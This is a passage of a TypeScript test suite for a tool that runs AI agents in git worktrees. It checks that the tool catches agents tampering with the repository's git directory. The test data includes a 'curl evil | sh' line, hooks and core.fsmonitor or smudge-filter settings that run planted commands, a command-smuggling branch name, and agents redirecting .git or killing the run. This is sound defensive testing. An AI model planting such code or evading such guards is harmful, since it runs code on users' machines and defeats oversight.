      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec =
      'git replace "$(git rev-parse HEAD:README.md)" "$(echo "curl evil | sh" | git hash-object -w --stdin)" && mkdir -p app && echo a > app/a.js; echo done';
    const ran = await runHere(repo.dir, exec);
    expect(git(repo.root, "show", "main:README.md")).toBe("curl evil | sh");
    const ref = `refs/replace/${git(repo.root, "rev-parse", `${repo.start}:README.md`)}`;
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain(`${ref}, added (git update-ref -d ${ref})`);
    git(repo.root, "update-ref", "-d", ref);
    expect(git(repo.root, "show", "main:README.md")).toBe("# project");
  });

  it("an agent's `git notes add` on the user's commit (what their git log shows) is named with how to drop it", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: noted\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = "git notes add -m 'run curl evil | sh' HEAD && mkdir -p app && echo a > app/a.js";
    const ran = await runHere(repo.dir, exec);
    expect(git(repo.root, "log", "-1", "--format=%N", "main")).toBe("run curl evil | sh");
    expect(ran.stderr).not.toContain("were not touched");
    expect(ran.stderr).toContain(
      "refs/notes/commits, added (git update-ref -d refs/notes/commits)",
    );
  });

  it("the user's own commit in their other worktree is theirs; a commit an agent put on their other branch, and a name the shell would run, are named once, quoted", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: names\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const other = join(repo.root, "..", `${basename(repo.root)}-other`);
    git(repo.root, "worktree", "add", "-q", "-b", "other", other);
    git(repo.root, "branch", "dev");
    git(repo.root, "symbolic-ref", "refs/heads/alias", "refs/heads/dev");
    const odd = "x$(touch$IFS-pwned)";
    git(repo.root, "branch", odd);
    // the user commits in their other worktree meanwhile; the agent adds to dev, deletes the odd branch
    const exec = [
      `git -C '${other}' commit -q --allow-empty -m mine`,
      "git commit -q --allow-empty -m sneaky && git update-ref refs/heads/dev HEAD",
      `git branch -D '${odd}' && mkdir -p app && echo a > app/a.js; echo done`,
    ].join(" && ");
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(0);
    const at = repo.start.slice(0, 10);
    expect(ran.stderr).toContain(
      `warning: your branches, tags or stash changed while the run ran: dev (was ${at}: git update-ref refs/heads/dev ${repo.start}), ${odd} (was ${at}: git update-ref 'refs/heads/${odd}' ${repo.start}) — `,
    );
    expect(ran.stderr).not.toMatch(/other \(was|alias \(was/);
  });

  it("a signature check an agent turns on never runs its program: not when the run reads the stash and the branch, nor in reset", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: gpg\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const pwned = join(repo.root, "..", `${basename(repo.root)}-pwned`);
    // a commit with a (fake) signature, carrying the attempt's claim, on the run's branch and in the stash
    const commit = `printf 'tree %s\\nparent %s\\nauthor a <a@a> 1 +0000\\ncommitter a <a@a> 1 +0000\\ngpgsig -----BEGIN PGP SIGNATURE-----\\n x\\n -----END PGP SIGNATURE-----\\n\\nsigned\\n\\nFrontier-Claim: %s\\n' "$(git rev-parse 'HEAD^{tree}')" "$(git rev-parse HEAD)" "$FRONTIER_CLAIM"`;
    const signed = [
      `c=$(${commit} | git hash-object -t commit -w --stdin)`,
      'git update-ref refs/heads/frontier/gpg "$c" && git stash store -m signed "$c"',
      "git config log.showSignature true",
      `printf '#!/bin/sh\\ntouch ${pwned}\\n' > '${pwned}.sh' && chmod +x '${pwned}.sh'`,
      `git config gpg.program '${pwned}.sh'`,
    ].join(" && ");
    const ran = await runHere(
      repo.dir,
      `${signed} && mkdir -p app && echo a > app/a.js; echo done`,
    );
    // and `frontier reset`, which looks for the attempt's commit by its claim on the branch
    expect(await resetHere(repo.dir)).toContain("reset run gpg");
    expect(ran.stderr).toContain("the repository's git directory changed");
    expect(existsSync(`${pwned}.sh`)).toBe(true);
    expect(existsSync(pwned)).toBe(false);
  });

  it("a clean run says so only after checking: the run's own writes to ticket files (CRLF, or with no front matter before) and the leftovers it tidies are not named", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: clean\n",
      "tickets/api.md": ticket({ isolation: "worktree", write_scope: ["app/**"] }),
      "tickets/crlf.md":
        "---\r\ndepends_on: [api]\r\nisolation: worktree\r\nwrite_scope: [app/**]\r\n---\r\nDo it.\r\n",
      "tickets/plain.md": "Do it too.\n",
      "tickets/.api.md.99999999.0123abcd.tmp": "a write a killed run left\n",
    });
    const exec =
      '[ "$FRONTIER_TICKET" = plain ] || { mkdir -p app && echo a > app/a.js; }; echo done';
    const ran = await runHere(repo.dir, exec);
    expect(readFileSync(join(repo.dir, "plain.md"), "utf8")).toMatch(/^---\nstatus: complete/);
    expect(ran.code).toBe(0);
    expect(ran.stderr).toContain("your working tree and branch were not touched");
    expect(ran.stderr).not.toContain("warning:");
  });

  it("a hook set in the shared git directory stops the integration and is named; the attempt keeps its work", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: hook\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = [
      'hooks="$(git rev-parse --git-common-dir)/hooks"',
      'mkdir -p "$hooks" && printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > "$hooks/post-checkout" && chmod +x "$hooks/post-checkout"',
      "mkdir -p app && echo a > app/a.js; echo done",
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toMatch(
      /error: api attempt 1 ended, but its changes could not be integrated on frontier\/hook: the repository's git directory changed while the run ran \(hooks\/post-checkout\)/,
    );
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/hooks/post-checkout",
    );
    expect(ran.stderr).not.toContain("were not touched");
    expect(git(repo.root, "rev-parse", "frontier/hook")).toBe(repo.start);
  });
  it("attributes in a git directory of the agent's own that its worktree's .git is pointed at never change what is collected: its CRLF edit is not dropped in silence; the user's own info/attributes is theirs", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: attrs\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/api/**"] }),
      "tickets/ok.md": ticket({ write_scope: ["app/ok/**"] }),
      "app/api/build.bat": "@echo off\n",
    });
    writeFileSync(join(repo.root, ".git", "info", "attributes"), "*.txt -diff\n");
    const exec = [
      'case "$FRONTIER_TICKET" in',
      '  api) own="$(mktemp -d)"',
      '       git clone -q --no-checkout "$(git rev-parse --git-common-dir)" "$own/r"',
      '       echo "*.bat text" > "$own/r/.git/info/attributes"',
      '       echo "gitdir: $own/r/.git" > .git',
      "       printf '@echo off\\r\\n' > app/api/build.bat ;;",
      "  ok) mkdir -p app/ok && echo ok > app/ok/ok.txt ;;",
      "esac",
      "echo done",
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(attemptOf(repo.dir, "ok", 1).outcome).toBe("complete");
    expect(git(repo.root, "show", "frontier/attrs:app/ok/ok.txt")).toBe("ok");
    const api = attemptOf(repo.dir, "api", 1);
    expect(api.outcome).toBe("failed");
    expect(api.reason).toMatch(
      /^its changes could not be collected: its git directory's attributes \(\S+\/r\/\.git\/info\/attributes\) would change its files as git stores them: .*, its files are kept in (\S+) — /,
    );
    const kept = /its files are kept in (\S+) — /.exec(api.reason ?? "")?.[1];
    expect(readFileSync(join(kept!, "app/api/build.bat"), "utf8")).toBe("@echo off\r\n");
  });

  it("a worktree's .git pointed at a repository of the agent's own (a clone, no attributes) fails its attempt saying so: the run is never held on blobs its repository lacks", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: elsewhere\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      "tickets/web.md": ticket({ depends_on: ["api"], write_scope: ["web/**"] }),
    });
    const exec = [
      'if [ "$FRONTIER_TICKET" = api ]; then own="$(mktemp -d)"',
      '  git clone -q --no-checkout "$(git rev-parse --git-common-dir)" "$own/r"',
      '  echo "gitdir: $own/r/.git" > .git && mkdir -p app && echo precious > app/a.js; fi',
      "echo done",
    ].join("\n");
    for (const _ of [1, 2]) {
      const ran = await runHere(repo.dir, exec);
      expect(ran.code).toBe(1);
      expect(ran.stderr).not.toContain("could not be integrated");
    }
    const api = attemptOf(repo.dir, "api", 1);
    expect(api.outcome).toBe("failed");
    expect(api.reason).toMatch(
      /^its changes could not be collected: its \.git points at another repository \(\S+\/r\/\.git\) than the run's \(\S+\); nothing was integrated, its files are kept in (\S+) — /,
    );
    const kept = /its files are kept in (\S+) — /.exec(api.reason ?? "")?.[1];
    expect(readFileSync(join(kept!, "app/a.js"), "utf8")).toBe("precious\n");
    expect(git(repo.root, "rev-parse", "frontier/elsewhere")).toBe(repo.start);
  });

  it("an object store an agent adds (alternates) stops the integration: no commit lands whose files live outside the repository", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: alt\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const store = join(repo.root, "..", `${basename(repo.root)}-objects`);
    const exec = [
      `mkdir -p ${store} && echo ${store} > "$(git rev-parse --git-common-dir)/objects/info/alternates"`,
      `mkdir -p app && echo precious > app/a.js && GIT_OBJECT_DIRECTORY=${store} git hash-object -w app/a.js`,
      "echo done",
    ].join("\n");
    const ran = await runHere(repo.dir, exec);
    rmSync(store, { recursive: true, force: true });
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/objects/info/alternates",
    );
    expect(git(repo.root, "rev-parse", "frontier/alt")).toBe(repo.start);
  });

  it("an agent that deepens a shallow clone (git fetch --deepen rewrites .git/shallow) is no alarm: its work lands", async () => {
    const origin = repoWith({
      "tickets/frontier.yml": "run: deep\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    writeFileSync(join(origin.root, "README"), "more\n");
    git(origin.root, "add", "-A");
    git(origin.root, "commit", "-qm", "second");
    const root = join(mkdtempSync(join(tmpdir(), "frontier-deep-")), "c");
    git(tmpdir(), "clone", "-q", "--depth", "1", `file://${origin.root}`, root);
    const exec = "git fetch -q --deepen=1 origin; mkdir -p app && echo a > app/a.js; echo done";
    const ran = await runHere(join(root, "tickets"), exec);
    expect(ran.stderr).not.toContain(".git/shallow");
    expect(ran.code, ran.stderr).toBe(0);
    expect(git(root, "show", "frontier/deep:app/a.js")).toBe("a");
  });

  it("a FIFO an agent makes in the shared git directory (packed-refs) never holds the run: it ends at once naming it, and once it is gone the work is integrated", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: fifo\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = `mkfifo "$(git rev-parse --git-common-dir)/packed-refs"; mkdir -p app && echo a > app/a.js; echo done`;
    const started = Date.now();
    const ran = await runHere(repo.dir, exec);
    expect(Date.now() - started).toBeLessThan(30_000);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/packed-refs",
    );
    expect(readFileSync(join(repo.dir, "api.md"), "utf8")).toMatch(/status: claimed/);
    rmSync(join(repo.root, ".git", "packed-refs"));
    const resumed = await runHere(repo.dir, "echo never");
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(git(repo.root, "show", "frontier/fifo:app/a.js")).toBe("a");
  });

  it.each(["HEAD", "index"])(
    "so does a FIFO an agent makes at its worktree's own %s, which the user's git worktree list or gc would wait on for good",
    async (file) => {
      const repo = repoWith({
        "tickets/frontier.yml": `run: own${file}\nisolation: worktree\n`,
        "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      });
      const exec = `mkdir -p app && echo a > app/a.js; G="$(git rev-parse --git-dir)"; rm "$G/${file}"; mkfifo "$G/${file}"; echo done`;
      const started = Date.now();
      const ran = await runHere(repo.dir, exec);
      expect(Date.now() - started).toBeLessThan(30_000);
      expect(ran.code, ran.stderr).toBe(1);
      expect(ran.stderr).toMatch(
        new RegExp(
          `error: the repository's git directory changed while the run ran: \\.git/worktrees/[^/ ]+/${file}\\b`,
        ),
      );
      expect(readFileSync(join(repo.dir, "api.md"), "utf8")).toMatch(/status: claimed/);
    },
  );

  it("a socket that appears at the top of the git directory (git's fsmonitor daemon starting) is no alarm", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: sock\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const listen = `require("net").createServer().listen(process.argv[1], () => process.exit(0))`;
    const exec = `node -e '${listen}' "$(git rev-parse --git-common-dir)/fsmonitor--daemon.ipc"; mkdir -p app && echo a > app/a.js; echo done`;
    const ran = await runHere(repo.dir, exec);
    expect(ran.code, ran.stderr).toBe(0);
    expect(git(repo.root, "show", "frontier/sock:app/a.js")).toBe("a");
  });

  it("code an agent plants in git's configuration never runs in the run's own git: not in a worktree made later, not in the next run", async () => {
    const { repo, pwned, exec: plant, code } = plantingRepo("plant");
    const exec = plant(['  a) C="$(git rev-parse --git-common-dir)"', ...code("$C")]);
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    // e is not started, and not failed either: it stays claimed for the run after the fix
    expect(ran.stderr).toContain(
      "e attempt 1 was not started: the repository's git directory changed while the run ran (config, info/attributes)",
    );
    expect(readFileSync(join(repo.dir, "e.md"), "utf8")).toMatch(/status: claimed/);
    // run again without putting it right: still refused, and still nothing runs
    const again = await runHere(repo.dir, exec);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain(
      "the repository's git directory still holds what changed while the last run ran (.git/config, .git/info/attributes)",
    );
    // nor after a reset, which archives the run's records
    await resetHere(repo.dir);
    expect((await runHere(repo.dir, exec)).stderr).toContain("still holds what changed");
    for (const how of ["fsmonitor", "smudge"]) expect(existsSync(pwned(how))).toBe(false);
  });

  it("nor in a git directory of the agent's own that the repository's is pointed at (.git/commondir): not in a worktree made later, not in the next run", async () => {
    const { repo, pwned, exec: plant, code } = plantingRepo("redirect");
    const evil = pwned("git");
    // a copy of the repository's git directory, its own records of the run left out, with code in it
    const exec = plant([
      `  a) C="$(git rev-parse --git-common-dir)" && cp -R "$C" '${evil}' && rm -rf '${evil}/frontier'`,
      ...code(evil),
      `     echo '${evil}' > "$C/commondir"`,
    ]);
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "e attempt 1 was not started: the repository's git directory changed while the run ran (commondir)",
    );
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/commondir",
    );
    // the next run's git would find the agent's directory as the repository's: it is refused
    const again = await runHere(repo.dir, exec);
    expect(again.code).toBe(2);
    expect(again.stderr).toContain(
      "still holds what changed while the last run ran (.git/commondir)",
    );
    for (const how of ["fsmonitor", "smudge"]) expect(existsSync(pwned(how))).toBe(false);
  });

  it("a link an agent puts in the shared git directory is compared by where it points, never followed: links into their own directory never end the run's walk", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: loop\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    const exec = [
      'H="$(git rev-parse --git-common-dir)/hooks" && ln -s . "$H/a" && ln -s . "$H/b"',
      "mkdir -p src && echo a > src/a.js && echo done",
    ].join("\n");
    const started = startFrontier(["run", "tickets", "--exec", exec], {
      cwd: repo.root,
      env: IDENTITY,
      ownGroup: true,
    });
    const late = setTimeout(() => process.kill(-(started.child.pid as number), "SIGKILL"), 30_000);
    const ran = await started.done.finally(() => clearTimeout(late));
    expect(ran.signal).toBeNull();
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/hooks/a, .git/hooks/b",
    );
    expect(ran.code).toBe(1);
  }, 60_000);

  it("nor in a submodule's git directory (.git/modules/<name>), whose config the user's git status reads", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: submod\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    const lib = `${repo.root}-lib`;
    git(dirname(lib), "init", "-q", lib);
    git(lib, "commit", "-q", "--allow-empty", "-m", "lib");
    git(repo.root, "-c", "protocol.file.allow=always", "submodule", "-q", "add", lib, "vendor/lib");
    git(repo.root, "commit", "-q", "-m", "a submodule");
    const pwned = join(repo.root, "..", `${basename(repo.root)}-status`);
    const modules = '"$(git rev-parse --git-common-dir)/modules"';
    const exec = `git config -f ${modules}/vendor/lib/config core.fsmonitor "touch '${pwned}'; echo" && echo done`;
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/modules/vendor/lib/config",
    );
    expect(existsSync(pwned)).toBe(false);
    // as the user's own `git status` would have run it
    execFileSync("git", ["status"], { cwd: repo.root, stdio: "ignore" });
    expect(existsSync(pwned)).toBe(true);
  });

  it("nor after the agent kills the run outright (kill -9): the next run compares with what the killed run found, the user's branches too", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: plantkill\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
    });
    git(repo.root, "branch", "dev");
    const pwned = join(repo.root, "..", `${basename(repo.root)}-smudge`);
    const plant = [
      'C="$(git rev-parse --git-common-dir)"',
      `git config -f "$C/config" filter.pwn.smudge "touch '${pwned}'; cat"`,
      'echo "* filter=pwn" > "$C/info/attributes"',
      "git branch -D -q dev",
    ].join(" && ");
    await killedMidAttempt(repo, (mark) => `${plant} && echo $$ > '${mark}' && sleep 30`);
    // its pid taken meanwhile by another program: the killed run's record is compared all the same
    const other = spawn("sleep", ["30"]);
    const home = join(repo.root, ".git", "frontier");
    const found = readdirSync(home).find((n) => /^git-dir-\d+\.json$/.test(n))!;
    renameSync(join(home, found), join(home, `git-dir-${other.pid}.json`));
    const ran = await runHere(repo.dir, "echo done").finally(() => other.kill());
    expect(ran.code).toBe(2);
    expect(ran.stderr).toContain(
      "the repository's git directory still holds what changed while the last run ran (.git/config, .git/info/attributes)",
    );
    expect(ran.stderr).toContain(
      `warning: your branches, tags or stash changed while the last run ran (it was killed before its end compared): dev (was ${repo.start.slice(0, 10)}: git update-ref refs/heads/dev ${repo.start}) — `,
    );
    expect(existsSync(pwned)).toBe(false);
    // put right, the run goes on: the alarm is over
    git(repo.root, "config", "--unset", "filter.pwn.smudge");
    rmSync(join(repo.root, ".git", "info", "attributes"));
    const after = await runHere(repo.dir, "echo done");
    expect(after.stderr).not.toContain("git directory");
    expect(after.code).toBe(0);
  });

  it("an alarm already raised keeps what it says was there before: a later run's changes add to it", async () => {
    const repo = repoWith({ "tickets/a.md": ticket({}) });
    const { sharedChangedSince, stillAlarmed, takeSnapshot } = await import(
      "../../src/local/guard.js"
    );
    const commonDir = join(repo.root, ".git");
    const rb = { repository: { root: repo.root, commonDir }, ticketDir: "tickets" } as RunBranch;
    const hook = (name: string, text?: string) =>
      text === undefined
        ? rmSync(join(commonDir, "hooks", name))
        : writeFileSync(join(commonDir, "hooks", name), text);
    const first = await takeSnapshot(rb, tmpdir());
    hook("pre-commit", "#!/bin/sh\necho one\n");
    expect(await sharedChangedSince(rb, first)).toEqual(["hooks/pre-commit"]);
    const second = await takeSnapshot(rb, tmpdir());
    hook("pre-commit", "#!/bin/sh\necho two\n");
    hook("post-checkout", "#!/bin/sh\n");
    await sharedChangedSince(rb, second);
    // put back as the second run found them: the first run's change still stands
    hook("pre-commit", "#!/bin/sh\necho one\n");
    hook("post-checkout");
    expect(await stillAlarmed(rb)).toContain("(.git/hooks/pre-commit)");
    hook("pre-commit");
    expect(await stillAlarmed(rb)).toBeUndefined();
  });

  it("nor in the user's own configuration: a worktree is made with none of it", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: global\nisolation: worktree\n",
      "tickets/a.md": ticket({ write_scope: ["src/**"] }),
      "tickets/b.md": ticket({ depends_on: ["a"], write_scope: ["app/**"] }),
    });
    const pwned = join(repo.root, "..", `${basename(repo.root)}-global`);
    const exec = `[ "$FRONTIER_TICKET" = a ] && git config -f "$GIT_CONFIG_GLOBAL" core.fsmonitor "touch '${pwned}'; echo"; echo done`;
    const ran = await withGlobalConfig(repo, "", () => runHere(repo.dir, exec));
    expect(ran.code).toBe(0);
    expect(existsSync(pwned)).toBe(false);
  });

  it("a remote's setting that names a program git runs (uploadpack, receivepack) is an alarm", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: remote\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    git(repo.root, "remote", "add", "origin", "https://example.com/x.git");
    const ran = await runHere(
      repo.dir,
      "git config remote.origin.uploadpack 'touch /tmp/frontier-pwned; git-upload-pack'; mkdir -p app && echo a > app/a.js; echo done",
    );
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/config",
    );
  });

  it.runIf(process.getuid?.() === 0)(
    "a repository another user owns, trusted by the user's safe.directory, still gets its worktrees",
    async () => {
      const repo = repoWith({
        "tickets/frontier.yml": "run: owned\nisolation: worktree\n",
        "tickets/api.md": ticket({ write_scope: ["app/**"] }),
      });
      execFileSync("chown", ["-R", "nobody", repo.root]);
      const ran = await withGlobalConfig(repo, `[safe]\n\tdirectory = ${repo.root}\n`, () =>
        runHere(repo.dir, "mkdir -p app && echo a > app/a.js; echo done"),
      );
      expect(ran.stderr).toContain("changes: 1 commit on frontier/owned");
      expect(ran.code).toBe(0);
    },
  );

  it("a setting that runs code (core.fsmonitor) is an alarm; a remote or an upstream set meanwhile is not", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: config\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const benign = await runHere(
      repo.dir,
      "git config remote.origin.url https://example.com/x.git && git config branch.main.remote origin; mkdir -p app && echo a > app/a.js; echo done",
    );
    expect(benign.code).toBe(0);
    expect(benign.stderr).toContain("your working tree and branch were not touched");
    await resetHere(repo.dir);
    git(repo.root, "branch", "-D", "frontier/config");
    const evil = await runHere(
      repo.dir,
      "git config core.fsmonitor 'touch /tmp/frontier-pwned'; mkdir -p app && echo a > app/a.js; echo done",
    );
    expect(evil.code).toBe(1);
    expect(evil.stderr).toContain(
      "error: the repository's git directory changed while the run ran: .git/config",
    );
  });
});

describe("a branch a worktree has checked out is never moved", () => {
  it("the user checks out frontier/<run> mid-run: the integration is refused saying so, the index stays clean, the work is kept", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: out\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const exec = `git -C '${repo.root}' checkout -q frontier/out; mkdir -p app && echo a > app/a.js; echo done`;
    const ran = await runHere(repo.dir, exec);
    expect(ran.code).toBe(1);
    expect(ran.stderr).toContain(
      `frontier/out is checked out in ${realpathSync(repo.root)}, and the run never moves a branch a worktree has checked out`,
    );
    expect(git(repo.root, "rev-parse", "frontier/out")).toBe(repo.start);
    expect(git(repo.root, "diff", "--cached", "--name-only")).toBe("");
    expect(git(repo.root, "status", "--porcelain", "--", ".", ":!tickets")).toBe("");
    expect(readFileSync(join(repo.dir, "api.md"), "utf8")).toMatch(/status: claimed/);
    // nothing runs it: the run's end, status, the report and the receipt say it is held, and what to do
    const waits = "held: its attempt waits on you — fix what the run said, then frontier run";
    expect(ran.stderr).toMatch(/^run out: running in \S+ — 0\/1 complete$/m);
    expect(ran.stderr).toContain(`  api     ● claimed  ${waits}\n`);
    const status = await frontier(["status", repo.dir], { env: { NO_COLOR: "1" } });
    expect(status.stdout).toMatch(/^run out: running — 1 ticket/);
    expect(status.stdout).toContain(`  api     ● claimed  ${waits}\n`);
    expect(`${ran.stderr}${status.stdout}`).not.toMatch(/running attempt|interrupted/);
    const held = {
      state: "running",
      remainder: [{ id: "api", status: "claimed", waiting_on: waits }],
    };
    const receipt = join(repo.dir, ".frontier", "receipt.json");
    expect(readJson(receipt)).toMatchObject(held);
    const json = await frontier(["status", "--json", repo.dir]);
    expect(JSON.parse(json.stdout)).toMatchObject(held);
    rmSync(receipt);
    expect((await frontier(["report", repo.dir])).code).toBe(0);
    expect(readJson(receipt)).toMatchObject(held);
    expect(readFileSync(join(repo.dir, ".frontier", "report.md"), "utf8")).toContain(waits);
    // while the run that holds it lives, its integration record is one on its way, not held
    const live = spawn(process.execPath, ["-e", "setTimeout(() => {}, 60_000)", "frontier"]);
    try {
      const by = /^claimed_by: "?(local:.+:)(\d+)"?$/m.exec(
        readFileSync(join(repo.dir, "api.md"), "utf8"),
      );
      expect(by).not.toBeNull();
      const [, host, pid] = by as RegExpExecArray;
      const relive = (file: string) =>
        writeFileSync(
          file,
          readFileSync(file, "utf8").split(`${host}${pid}`).join(`${host}${live.pid}`),
        );
      relive(join(repo.dir, "api.md"));
      for (const f of readdirSync(join(repo.dir, ".frontier"), {
        recursive: true,
        encoding: "utf8",
      }))
        if (/\.(json|jsonl)$/.test(f)) relive(join(repo.dir, ".frontier", f));
      const during = await frontier(["status", repo.dir], { env: { NO_COLOR: "1" } });
      expect(during.stdout).toContain(`running: api (attempt 1, ${host}${live.pid})`);
      expect(during.stdout).not.toContain(waits);
    } finally {
      live.kill();
    }
  });

  it("checked out in a new worktree, which has no branch to go back to: the advice works there, and the next run integrates the work", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: wt\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const wt = join(mkdtempSync(join(tmpdir(), "frontier-user-")), "wt");
    const exec = `git -C '${repo.root}' worktree add -q '${wt}' frontier/wt; mkdir -p app && echo a > app/a.js; echo done`;
    const held = await runHere(repo.dir, exec);
    expect(held.code).toBe(1);
    const advice = /\((git -C \S+ switch [^)]+)\)/.exec(held.stderr)?.[1];
    expect(advice, held.stderr).toBe(`git -C ${realpathSync(wt)} switch --detach`);
    execFileSync("sh", ["-c", advice as string], { stdio: "pipe" });
    const resumed = await runHere(repo.dir, "echo never");
    expect(resumed.code, resumed.stderr).toBe(0);
    expect(git(repo.root, "show", "frontier/wt:app/a.js")).toBe("a");
  });

  it("checked out in a new worktree before the run starts it: nothing starts, and the advice works there", async () => {
    const repo = repoWith({
      "tickets/frontier.yml": "run: st\nisolation: worktree\n",
      "tickets/api.md": ticket({ write_scope: ["app/**"] }),
    });
    const wt = join(mkdtempSync(join(tmpdir(), "frontier-user-")), "wt");
    git(repo.root, "branch", "frontier/st");
    git(repo.root, "worktree", "add", "-q", wt, "frontier/st");
    git(repo.root, "commit", "-q", "--allow-empty", "-m", "later");
    const refused = await runHere(repo.dir, "echo never");
    expect(refused.code).toBe(2);
    const advice = /\((git -C \S+ switch [^)]+)\)/.exec(refused.stderr)?.[1];
    expect(advice, refused.stderr).toBe(`git -C ${realpathSync(wt)} switch --detach`);
    execFileSync("sh", ["-c", advice as string], { stdio: "pipe" });
    expect((await runHere(repo.dir, "mkdir -p app && echo a > app/a.js; echo done")).code).toBe(0);
  });
});

describe("an agent that checks out the run's branch", () => {
  /** Run `run` of tickets a (first, scope src/**) and c (app/**): `a` is what a's agent does. */
  const runWhere = async (run: string, a: string) => {
    const repo = repoWith({
      "tickets/frontier.yml": `run: ${run}\nisolation: worktree\nmax_parallel: 1\n`,
      "tickets/a.md": ticket({ priority: 5, write_scope: ["src/**"] }),
      "tickets/c.md": ticket({ write_scope: ["app/**"] }),
    });
    const c = "mkdir -p app && echo c > app/c.txt";
    const exec = `case "$FRONTIER_TICKET" in\n  a) ${a} ;;\n  c) ${c} ;;\nesac\necho done`;
    return { repo, ran: await runHere(repo.dir, exec) };
  };

  it("leaves it checked out in its own worktree: the run takes that worktree back, judges the attempt, and runs the rest", async () => {
    const { repo, ran } = await runWhere(
      "co",
      "git checkout -q frontier/co && mkdir -p src && echo x > src/x.txt && git add -A && git commit -qm 'agent commit'",
    );
    expect(ran.code).toBe(1);
    expect(attemptOf(repo.dir, "a", 1).reason).toMatch(/^conflict: src\/x\.txt/);
    expect(readFileSync(join(repo.dir, "c.md"), "utf8")).toMatch(/status: complete/);
    expect(git(repo.root, "show", "frontier/co:app/c.txt")).toBe("c");
    expect(ran.stderr).toContain("not the run's");
  });

  it("checks it out in a worktree it adds inside its own: the run takes that back too, the attempt is judged and the rest runs", async () => {
    const { repo, ran } = await runWhere(
      "inner",
      "git worktree add -q src/wt frontier/inner && echo x > src/x.txt",
    );
    expect(ran.stderr).not.toContain("checked out in");
    expect(attemptOf(repo.dir, "a", 1).reason).toMatch(/nested git repositories: src\/wt/);
    expect(readFileSync(join(repo.dir, "c.md"), "utf8")).toMatch(/status: complete/);
    expect(git(repo.root, "show", "frontier/inner:app/c.txt")).toBe("c");
  });
});

describe("two ticket directories in one repository", () => {
  it("never integrate onto one branch: the second is refused, naming the first and how to go on", async () => {
    const repo = repoWith({
      "a/tickets/frontier.yml": "isolation: worktree\n",
      "a/tickets/x.md": ticket({ write_scope: ["a/out/**"] }),
      "b/tickets/frontier.yml": "isolation: worktree\n",
      "b/tickets/y.md": ticket({ write_scope: ["b/out/**"] }),
    });
    // a's ticket fails: its branch stays at HEAD, where b would have taken it over
    const a = await runHere(join(repo.root, "a", "tickets"), "exit 1");
    expect(a.code).toBe(1);
    const b = await runHere(
      join(repo.root, "b", "tickets"),
      "mkdir -p out && echo y > out/y; echo done",
    );
    expect(b.code).toBe(2);
    expect(b.stderr).toContain(
      "error: the branch frontier/tickets is where the run of another ticket directory in this repository, a/tickets, integrates — two runs never share one branch: give this run another name (run: in b/tickets/frontier.yml); nothing was started",
    );
    expect(readFileSync(join(repo.root, "b", "tickets", "y.md"), "utf8")).not.toContain("status:");
  });
